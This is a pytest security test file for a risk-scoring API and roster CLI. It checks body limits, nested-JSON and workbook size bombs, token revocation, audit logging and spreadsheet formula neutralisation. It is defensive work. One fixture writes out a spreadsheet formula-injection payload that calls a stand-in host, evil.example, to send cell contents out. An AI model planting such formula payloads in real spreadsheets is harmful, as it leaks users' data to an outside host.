"""A hostile or careless client: limits on what is received, ids it cannot forge, tokens that
can be revoked, an audit trail that shows tampering, spreadsheets that run no formulas."""

from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pandas as pd
import pytest
from conftest import sunshine, until, use_mlflow

from benchmarks.servers import ServerThread, create_token, free_port, server_process
from features.storage.store import Store
from serving.access.audit import AuditLog
from serving.access.tokens import TokenStore
from serving.app import create_app
from serving.scoring.interventions import load_interventions
from serving.state.champions import load_champions
from serving.state.service import build_state

SUNSHINE = str(Path(sys.executable).with_name("sunshine"))


@pytest.fixture(scope="module")
def api(served, tmp_path_factory):
    use_mlflow(served)
    root = tmp_path_factory.mktemp("security")
    tokens_file = root / "tokens.json"
    tokens = TokenStore.load(tokens_file)
    keys = {
        "analyst": tokens.create("li", "analyst"),
        "admin": tokens.create("root", "admin"),
    }
    tokens.save()
    audit = root / "audit.db"
    state = build_state(Store(served / "city"), load_champions())
    log = AuditLog(audit)
    app = create_app(state, tokens, log, load_interventions())
    with ServerThread(app) as server:
        yield {"url": server.url, "keys": keys, "audit": audit, "tokens": tokens_file, "log": log}


def auth(api, who):
    return {"Authorization": f"Bearer {api['keys'][who]}"}


def test_the_body_limit_counts_bytes_received_not_the_header(api):
    def chunks():  # 8 MiB with no Content-Length, and no token
        for _ in range(64):
            yield b"x" * (128 * 1024)

    # without a token the body is never read at all
    r = httpx.post(api["url"] + "/v1/score/relapse", content=chunks(), timeout=60)
    assert r.status_code == 401
    # on a route that reads bodies before authentication, the bytes received are counted
    r = httpx.put(api["url"] + "/v1/models", content=chunks(), timeout=60)
    assert r.status_code in (405, 413)
    r = httpx.post(
        api["url"] + "/v1/score/relapse",
        content=chunks(),
        headers=auth(api, "analyst") | {"content-type": "application/json"},
        timeout=60,
    )
    # the answer of every refusal: JSON, with the server's request id, audited
    assert r.status_code == 413 and r.json() == {"detail": "body over 4194304 bytes"}
    assert re.fullmatch(r"[0-9a-f]{32}", r.headers["x-request-id"])
    announced = httpx.post(
        api["url"] + "/v1/score/relapse",
        content=b" " * (5 * 2**20),
        headers=auth(api, "analyst") | {"content-type": "application/json"},
        timeout=30,
    )
    assert announced.status_code == 413 and announced.json()["detail"].startswith("body over")
    assert "x-request-id" in announced.headers
    refused = AuditLog(api["audit"]).query().tail(2)
    assert refused.status.tolist() == [413, 413]
    assert refused.user.fillna("").tolist() == ["li", ""]  # the second, before its token


def test_a_refused_request_is_not_read_to_its_end(api):
    """A client refused before its body is read (no token; or 3 GiB announced) gets its
    answer and the connection closed: the server does not go on reading, and discarding,
    whatever the client goes on sending."""
    import socket
    from urllib.parse import urlsplit

    where = urlsplit(api["url"])

    def answer(head: bytes, body: bytes) -> bytes:
        with socket.create_connection((where.hostname, where.port), timeout=10) as con:
            con.sendall(b"POST /v1/score/relapse HTTP/1.1\r\nHost: x\r\n" + head + b"\r\n")
            con.sendall(body)
            got = b""
            while chunk := con.recv(65536):  # until the server closes; a timeout fails
                got += chunk
        return got.lower()

    chunked = answer(b"Transfer-Encoding: chunked\r\n", b"10000\r\n" + b"x" * 65536 + b"\r\n")
    assert chunked.startswith(b"http/1.1 401") and b"connection: close" in chunked
    huge = answer(b"Content-Length: 3221225472\r\n", b"x" * 65536)
    assert huge.startswith(b"http/1.1 413") and b"connection: close" in huge


def test_records_are_counted_while_parsed(api):
    body = b'{"records": [' + b",".join([b"{}"] * 1_300_000) + b"]}"  # 3.9 MB, under 4 MiB
    r = httpx.post(
        api["url"] + "/v1/score/relapse",
        content=body,
        headers=auth(api, "analyst") | {"content-type": "application/json"},
        timeout=60,
    )
    # "more than", not a count: parsing stopped at the 1,001st record
    assert r.status_code == 413 and "more than 1000 records" in r.text
    bad = httpx.post(
        api["url"] + "/v1/score/relapse",
        content=b'{"records": [{"person": {"person_id": "X"}}]}',
        headers=auth(api, "analyst"),
        timeout=30,
    )
    assert bad.status_code == 422
    assert bad.json()["detail"][0]["field"] == "records.0.person.birth_date"


def test_a_body_of_no_request_shape_is_refused_before_it_is_parsed(api):
    """Nesting: two million `[` (3.8 MB, under the body limit) grew the streaming parser to
    16 GB and the kernel killed the server; 40,000 of them alone took some 340 MiB. Refused
    from the raw bytes, the server's memory stays where it was. Long strings and too many keys
    likewise, and a valid body still parses."""
    import psutil

    def post(body: bytes) -> httpx.Response:
        return httpx.post(
            api["url"] + "/v1/score/relapse",
            content=body,
            headers=auth(api, "analyst") | {"content-type": "application/json"},
            timeout=60,
        )

    rss = psutil.Process().memory_info().rss  # the server runs in this process
    for depth in (40_000, 2_000_000):
        r = post(b'{"records":[' + b"[" * depth + b"]" * depth + b"]}")
        assert r.status_code == 413 and "deep" in r.text, r.text[:200]
    assert psutil.Process().memory_info().rss - rss < 64 * 2**20
    long = post(b'{"records": [{"id": "' + b"x" * 5000 + b'"}]}')
    assert long.status_code == 413 and "longer than 1024 bytes" in long.text
    keys = b",".join([b'"a":1'] * 400_001)  # 2.4 MB: repeated keys are still keys
    many = post(b'{"records": [{"features": {' + keys + b"}}]}")
    assert many.status_code == 413 and "400,003 keys; at most 400,000" in many.text
    # brackets and quotes inside strings are text, not structure
    fine = post(b'{"records": [{"id": "[[[[[[[[[[\\"{{", "person": {"person_id": "X"}}]}')
    assert fine.status_code == 422 and "birth_date" in fine.text


def test_the_server_makes_its_own_request_id_and_bounds_the_clients(api):
    before = len(AuditLog(api["audit"]).query())
    for offered in ("FORGED", "x" * 8000):
        r = httpx.get(
            api["url"] + "/v1/models",
            headers=auth(api, "admin") | {"X-Request-ID": offered},
            timeout=30,
        )
        assert r.status_code == 200 and r.headers["x-request-id"] != offered
    rows = AuditLog(api["audit"]).query().iloc[before:]
    assert len(rows) == 2 and rows.request_id.str.fullmatch(r"[0-9a-f]{32}").all()
    assert list(rows.client_request_id.fillna("")) == ["FORGED", ""]
    assert (rows.route == "/v1/models").all()  # admin calls are audited too


def test_a_trailing_newline_is_not_a_valid_person_id(api):
    r = httpx.get(
        api["url"] + "/v1/persons/P0000008%0A/risk", headers=auth(api, "analyst"), timeout=30
    )
    assert r.status_code == 422


def test_revoked_and_new_tokens_take_effect_without_a_restart(api):
    def models(token: str) -> int:
        headers = {"Authorization": f"Bearer {token}"}
        return httpx.get(api["url"] + "/v1/models", headers=headers, timeout=30).status_code

    on_disk = TokenStore.load(api["tokens"])
    fresh = on_disk.create("new-admin", "admin")
    on_disk.save()
    deadline = time.monotonic() + 10
    while models(fresh) != 200:
        assert time.monotonic() < deadline, "a new token was not taken in"
        time.sleep(0.2)
    env = {**os.environ, "SUNSHINE_TOKENS_FILE": str(api["tokens"]), "COLUMNS": "200"}
    listed = subprocess.run(
        [SUNSHINE, "tokens", "list", "--format", "csv", "--audit-db", str(api["audit"])],
        capture_output=True,
        text=True,
        env=env,
    )
    assert listed.returncode == 0, listed.stderr
    table = pd.read_csv(pd.io.common.StringIO(listed.stdout))
    assert fresh not in listed.stdout and on_disk.entries[-1].sha256 not in listed.stdout
    row = table.set_index("user").loc["new-admin"]
    assert row.status == "valid" and row.expires > row.created and isinstance(row.last_used, str)
    revoked = subprocess.run(
        [SUNSHINE, "tokens", "revoke", "--user", "new-admin"],
        capture_output=True,
        text=True,
        env=env,
    )
    assert revoked.returncode == 0, revoked.stderr
    deadline = time.monotonic() + 10
    while models(fresh) != 401:
        assert time.monotonic() < deadline, "a revoked token kept working"
        time.sleep(0.2)


def test_expired_tokens_are_refused(tmp_path):
    store = TokenStore.load(tmp_path / "tokens.json")
    token = store.create("old", "analyst", expires_days=1)
    assert store.authenticate(token) is not None
    store.entries[-1].expires = "2020-01-01T00:00:00+00:00"
    assert store.authenticate(token) is None
    with pytest.raises(Exception, match="between 1 and 366 days"):
        store.create("x", "analyst", expires_days=0)


def test_secrets_and_the_audit_trail_are_owner_only(api):
    for path in (api["tokens"], api["audit"]):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


def test_forwarded_addresses_are_believed_only_from_a_trusted_proxy(served_registry, tmp_path):
    env = {**os.environ, "SUNSHINE_TOKENS_FILE": str(tmp_path / "tokens.json")}
    token = create_token(env, "--user", "root", "--role", "admin")
    headers = {"Authorization": f"Bearer {token}", "X-Forwarded-For": "10.66.66.66"}
    clients = {}
    for trusted in ([], ["--trusted-proxy", "127.0.0.1"]):
        port = free_port()
        audit = tmp_path / f"audit-{len(trusted)}.db"
        cmd = [SUNSHINE, "serve", "--data", served_registry / "city", "--port", port]
        cmd += ["--audit-db", audit, *trusted]
        with server_process(cmd, port, "/healthz", cwd=served_registry, env=env) as url:
            assert httpx.get(f"{url}/v1/models", headers=headers, timeout=30).status_code == 200
        clients[bool(trusted)] = AuditLog(audit).query().client.iloc[-1]
    assert clients == {False: "127.0.0.1", True: "10.66.66.66"}


def _roster_cli(root: Path, *args: object):
    return sunshine(root, "score-roster", *args, "--data", "city", check=False)


def test_roster_text_never_becomes_a_live_formula(served, tmp_path):
    from openpyxl import Workbook, load_workbook

    persons = pd.read_parquet(served / "city" / "persons.parquet").person_id
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
    roster = tmp_path / "roster.csv"
    notes = [evil, "+1+1", "-2", "@SUM(A1)"]
    pd.DataFrame({"person_id": persons.iloc[:4], "note": notes, evil: "x"}).to_csv(
        roster, index=False
    )
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"scored.{suffix}"
        r = _roster_cli(served, roster, "--task", "relapse", "--out", out)
        assert r.returncode == 0, r.stderr
        if suffix == "csv":
            written = pd.read_csv(out, encoding="utf-8-sig", dtype=str)
            header, notes = list(written.columns), written.note.tolist()
        else:
            sheet = load_workbook(out).worksheets[0]
            header = [c.value for c in sheet[1]]
            column = header.index("note") + 1
            cells = [sheet.cell(row=i, column=column) for i in range(2, 6)]
            assert all(c.data_type != "f" for c in [*cells, *sheet[1]])
            notes = [c.value for c in cells]
        assert notes == ["'" + evil, "'+1+1", "-2", "'@SUM(A1)"]  # a plain number stays one
        assert "'" + evil in header and evil not in header  # the roster's own header too

    # a formula in an input workbook is an error naming the cell, not an empty value
    book = Workbook()
    sheet = book.active
    sheet.append(["person_id", "note"])
    sheet.append([persons.iloc[0], "ok"])
    sheet.append([persons.iloc[1], "=1+2"])
    book.save(tmp_path / "formula.xlsx")
    r = _roster_cli(
        served, tmp_path / "formula.xlsx", "--task", "relapse", "--out", tmp_path / "f.csv"
    )
    assert r.returncode == 2 and "cell B3 holds a formula" in " ".join(r.stderr.split())
    book = Workbook()
    book.active.append(["person_id", '=HYPERLINK("http://evil.example")'])
    book.save(tmp_path / "header.xlsx")
    r = _roster_cli(
        served, tmp_path / "header.xlsx", "--task", "relapse", "--out", tmp_path / "h.csv"
    )
    assert r.returncode == 2 and "cell B1 holds a formula" in " ".join(r.stderr.split())
    # a damaged workbook is a one-paragraph error, exit 2
    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04 not really a workbook")
    r = _roster_cli(
        served, tmp_path / "broken.xlsx", "--task", "relapse", "--out", tmp_path / "b.csv"
    )
    assert r.returncode == 2 and "cannot read roster" in " ".join(r.stderr.split())


def _workbook(path: Path, rows: list[list[str]], text: str) -> Path:
    """A workbook whose cell "LONG" holds `text`, written into its XML as another program
    could: openpyxl itself would cut a cell to 32,767 characters."""
    import zipfile

    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    plain = path.with_suffix(".plain.xlsx")
    book.save(plain)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for part in src.infolist():
            out.writestr(part, src.read(part.filename).replace(b"LONG", text.encode()))
    plain.unlink()
    return path


def test_a_roster_cell_past_a_spreadsheets_limit_is_refused_naming_it(
    served, tmp_path, monkeypatch
):
    """A 310 KB workbook holding one 300 MB cell ran 79 s, took 5.2 GB and wrote a 629 MB
    CSV: a cell holds at most a spreadsheet's own 32,767 characters, and a workbook part that
    unpacks past its limit is refused before it is read; either named."""
    from features.core import io

    persons = pd.read_parquet(served / "city" / "persons.parquet").person_id.tolist()
    long = "x" * 40_000
    pd.DataFrame({"person_id": persons[:3], "note": ["a", long, "b"]}).to_csv(
        tmp_path / "long.csv", index=False
    )
    _workbook(
        tmp_path / "long.xlsx",
        [["person_id", "note"], [persons[0], "a"], [persons[1], "LONG"]],
        long,
    )
    for name, where in (
        ("long.csv", "row 3, column note: 40,000 characters"),
        ("long.xlsx", "cell B3 holds 40,000 characters"),
    ):
        r = _roster_cli(served, tmp_path / name, "--task", "relapse", "--out", tmp_path / "o.csv")
        message = " ".join(r.stderr.split())
        assert r.returncode == 2 and where in message and "32,767" in message, message
    # a part that unpacks past the limit (lowered here to 1 MiB, beside 2 MB of one repeated
    # letter that packs into a few kilobytes) is refused before openpyxl reads a byte of it
    monkeypatch.setattr(io, "MAX_WORKBOOK_PART", 2**20)
    packed = _workbook(
        tmp_path / "packed.xlsx", [["person_id", "note"], [persons[0], "LONG"]], "y" * 2_000_000
    )
    assert packed.stat().st_size < 50_000
    r = _roster_cli(served, packed, "--task", "relapse", "--out", tmp_path / "p.csv")
    message = " ".join(r.stderr.split())
    assert r.returncode == 2 and "xl/worksheets/sheet1.xml unpacks to 2 MiB" in message, message
    assert not list(tmp_path.glob("[op].csv"))


def test_one_date_policy_for_every_path(api, served, tmp_path):
    person = {"person_id": "N1", "birth_date": "1990-01-01", "district": "huaxi"}
    for as_of, why in (
        ("9999-12-31", "after the data's reference date"),
        ("0001-01-01", "before 1900"),
    ):
        r = httpx.post(
            api["url"] + "/v1/score/relapse",
            json={"records": [{"person": person, "events": [], "as_of": as_of}]},
            headers=auth(api, "analyst"),
            timeout=30,
        )
        assert r.status_code == 422 and why in r.json()["detail"][0]["reason"], r.text
        r = httpx.get(
            api["url"] + "/v1/persons/P0000001/risk",
            params={"as_of": as_of, "allow_out_of_cohort": "true"},
            headers=auth(api, "analyst"),
            timeout=30,
        )
        assert r.status_code == 422 and why in r.json()["detail"][0]["reason"]
    old = {**person, "birth_date": "1850-05-01"}
    r = httpx.post(
        api["url"] + "/v1/score/relapse",
        json={"records": [{"person": old, "events": []}]},
        headers=auth(api, "analyst"),
        timeout=30,
    )
    assert r.status_code == 422 and r.json()["detail"][0]["field"] == "person.birth_date"
    roster = tmp_path / "dates.csv"
    pid = pd.read_parquet(served / "city" / "persons.parquet").person_id.iloc[0]
    pd.DataFrame({"person_id": [pid, pid], "as_of": ["0001-01-01", "9999-12-31"]}).to_csv(
        roster, index=False
    )
    r = _roster_cli(served, roster, "--task", "relapse", "--out", tmp_path / "d.csv")
    assert r.returncode == 0, r.stderr
    errors = pd.read_csv(tmp_path / "d.csv", encoding="utf-8-sig").error.tolist()
    assert errors == [
        "as_of: before 1900-01-01",
        "as_of: after the data's reference date 2026-06-30",
    ]


def test_resume_refuses_parts_written_from_other_data(served, tmp_path):
    """A resumed run's parts must come from the same data: a file touched but unchanged is
    the same; one whose values changed is not, though its size and time were kept (300
    urine results rewritten in place, the time restored: the run resumed and 25 rows
    differed from a fresh one)."""
    import shutil

    from features.core.errors import InputError
    from models.registry import load_model
    from serving.batch.job import RosterJob
    from serving.batch.runner import RosterScorer

    use_mlflow(served)
    city = tmp_path / "city"
    shutil.copytree(served / "city", city)
    events = city / "events.csv"  # as a text file, where a value can change in place
    pd.read_parquet(city / "events.parquet").to_csv(events, index=False)
    (city / "events.parquet").unlink()
    roster = tmp_path / "roster.csv"
    pd.read_parquet(city / "persons.parquet").person_id.head(50).to_frame().to_csv(
        roster, index=False
    )
    model, facts = load_model("relapse")

    def scorer(resume: bool) -> RosterScorer:
        job = RosterJob(roster, "relapse", tmp_path / "out.csv", resume=resume)
        return RosterScorer(job, Store(city), model, facts, load_interventions()["relapse"])

    scorer(False).prepare_parts()  # an interrupted run left its manifest
    scorer(True).prepare_parts()  # the same data and model: resumable
    os.utime(events, ns=(10**18, 10**18))  # touched, not changed: still the same data
    scorer(True).prepare_parts()
    before, text = events.stat(), events.read_text()
    flipped = text.replace(",urine_test,0.0,", ",urine_test,1.0,", 300)
    assert flipped != text and len(flipped) == len(text)
    events.write_text(flipped)
    os.utime(events, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert (events.stat().st_size, events.stat().st_mtime_ns) == (
        before.st_size,
        before.st_mtime_ns,
    )
    with pytest.raises(InputError, match=r"\(data changed\)"):
        scorer(True).prepare_parts()


def test_the_docs_page_loads_nothing_from_outside(api):
    import re

    page = httpx.get(api["url"] + "/docs", timeout=30)
    assert page.status_code == 200
    sources = re.findall(r'(?:src|href)="([^"]+)"', page.text)
    assert sources and all(s.startswith("/docs/assets/") for s in sources), sources
    assert "cdn" not in page.text.lower()
    for source in sources:
        asset = httpx.get(api["url"] + source, timeout=30)
        assert asset.status_code == 200 and len(asset.content) > 500, source
    assert httpx.get(api["url"] + "/openapi.json", timeout=30).json()["openapi"].startswith("3.")


def test_the_openapi_schema_is_true_for_every_role(served_registry, tmp_path):
    """schemathesis against a real `sunshine serve`, as an admin, an analyst and a
    caseworker: every status is documented, every body matches its schema, nothing is a
    server error. Bounded in examples and time. One check is left out, on purpose:
    "schema-valid request rejected" cannot hold where validity depends on the data (an as_of
    before the data begins, or after its reference date, is well-formed and still refused)."""
    env = {**os.environ, "SUNSHINE_TOKENS_FILE": str(tmp_path / "tokens.json")}

    tokens = [
        create_token(env, "--user", "root", "--role", "admin"),
        create_token(env, "--user", "li", "--role", "analyst"),
        create_token(env, "--user", "wang", "--role", "caseworker", "--districts", "huaxi"),
    ]
    port = free_port()
    cmd = [SUNSHINE, "serve", "--data", served_registry / "city", "--port", port]
    cmd += ["--audit-db", tmp_path / "audit.db"]
    st = str(Path(sys.executable).with_name("schemathesis"))
    with server_process(cmd, port, "/healthz", cwd=served_registry, env=env) as url:
        for secret in tokens:
            run = subprocess.run(
                [
                    st, "run", f"{url}/openapi.json",
                    "-H", f"Authorization: Bearer {secret.strip()}",
                    "--max-examples", "10", "--max-time", "5", "--seed", "1",
                    "--generation-deterministic",
                    "--exclude-checks", "positive_data_acceptance",
                    "--report-dir", str(tmp_path / "reports"),
                ],
                capture_output=True, text=True, timeout=180, cwd=tmp_path,
            )  # fmt: skip
            assert run.returncode == 0, run.stdout[-4000:]
            assert "Server error" not in run.stdout


def test_requests_refused_before_routing_are_audited_too(api):
    before = len(AuditLog(api["audit"]).query())
    assert httpx.get(api["url"] + "/v1/models/", timeout=30).status_code == 307
    anonymous = httpx.get(api["url"] + "/v1/persons/P0000001/risk?as_of=2025-01-01", timeout=30)
    assert anonymous.status_code == 401
    rows = AuditLog(api["audit"]).query().iloc[before:]
    assert sorted(rows.status) == [307, 401]
    refused = rows[rows.status == 401].iloc[0]
    assert refused.person_id == "P0000001" and refused.as_of == "2025-01-01"
    assert pd.isna(refused.user) and refused.client == "127.0.0.1"


def test_every_request_is_counted_out_of_the_writers_wait(api):
    """The count of answers still to come returns to zero after answered, refused, oversized
    and unrouted requests, and after a client that went away before its answer, which is
    recorded as such (499, nginx's "client closed request") and not as a server error."""
    import socket

    url = api["url"]
    answered = httpx.get(url + "/v1/persons/P0000001/risk", headers=auth(api, "analyst"))
    assert answered.status_code in (200, 409)  # a risk, or "not in the cohort" (P0000001)
    assert httpx.get(url + "/v1/persons/P0000001/risk").status_code == 401
    assert httpx.get(url + "/v1/nothing-here", headers=auth(api, "analyst")).status_code == 404
    host, port = url.removeprefix("http://").split(":")
    token = auth(api, "analyst")["Authorization"].encode()

    def send_only(con: socket.socket, length: int, body: bytes) -> None:
        con.sendall(
            b"POST /v1/score/relapse HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n"
            b"Authorization: %s\r\n\r\n%s" % (length, token, body)
        )

    with socket.create_connection((host, int(port)), timeout=30) as con:
        send_only(con, 10**9, b"")  # refused at once, by its header
        assert con.recv(100).startswith(b"HTTP/1.1 413")
    log = api["log"]
    with socket.create_connection((host, int(port)), timeout=30) as con:
        send_only(con, 1000, b"{")  # half a body, and the server waits for the rest
        until(lambda: log.coming == 1)
    until(lambda: log.query().status.iloc[-1] == 499)  # then gone, and recorded as such
    gone = log.query().iloc[-1]
    assert gone.route == "/v1/score/{task}" and gone.user == "li"
    assert log.coming == 0
